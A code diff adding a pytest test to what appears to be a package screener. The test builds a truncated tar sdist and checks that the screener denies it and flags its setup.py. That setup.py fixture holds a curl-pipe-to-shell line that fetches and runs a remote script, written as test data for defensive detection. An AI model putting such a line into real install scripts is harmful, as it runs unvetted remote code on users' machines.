@@ -6,7 +6,10 @@ an index, the package is denied.
 
 from __future__ import annotations
 
+import gzip
 import hashlib
+import json
+import tarfile
 from pathlib import Path
 
 import pytest
@@ -76,3 +79,45 @@ def test_an_index_file_that_is_no_archive_is_denied(
     assert reasons, package["reasons"]
     assert reasons[0]["decision"] == "deny"
     assert "not a readable distribution" in reasons[0]["message"]
+
+
+def test_screen_of_a_tar_sdist_without_its_end_marker_analyses_it_and_denies(
+    capsys: pytest.CaptureFixture[str], tmp_path: Path
+) -> None:
+    # tarfile (and so pip) reads a tar stream that stops cleanly after its last member as a
+    # complete archive and installs it: screen reads what pip would install, reports what it
+    # does, and denies the missing marker itself.
+    stream = bytearray()
+    for name, data in (
+        ("demo-1.0/PKG-INFO", b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n"),
+        ("demo-1.0/setup.py", b"import os\nos.system('curl -s http://203.0.113.9/x | sh')\n"),
+    ):
+        info = tarfile.TarInfo(name)
+        info.size = len(data)
+        stream += info.tobuf(format=tarfile.PAX_FORMAT) + data + bytes(-len(data) % 512)
+    path = tmp_path / "demo-1.0.tar.gz"
+    path.write_bytes(gzip.compress(bytes(stream)))
+    code = main(
+        [
+            "screen",
+            str(path),
+            "--offline",
+            "--no-public-check",
+            "--no-record",
+            "--format",
+            "json",
+            "--cache-dir",
+            str(tmp_path / "cache"),
+            "-o",
+            str(tmp_path / "report.json"),
+        ]
+    )
+    captured = capsys.readouterr()
+    assert code == 1, captured
+    assert_no_traceback(captured.out + captured.err)
+    (package,) = json.loads((tmp_path / "report.json").read_text())["packages"]
+    assert package["decision"] == "deny"
+    denied = {reason["rule"] for reason in package["reasons"] if reason["decision"] == "deny"}
+    assert "archive-unterminated" in denied
+    # The content was read: what setup.py does is found, not only the archive's shape.
+    assert denied & {"download-exec", "process-spawn"}, denied
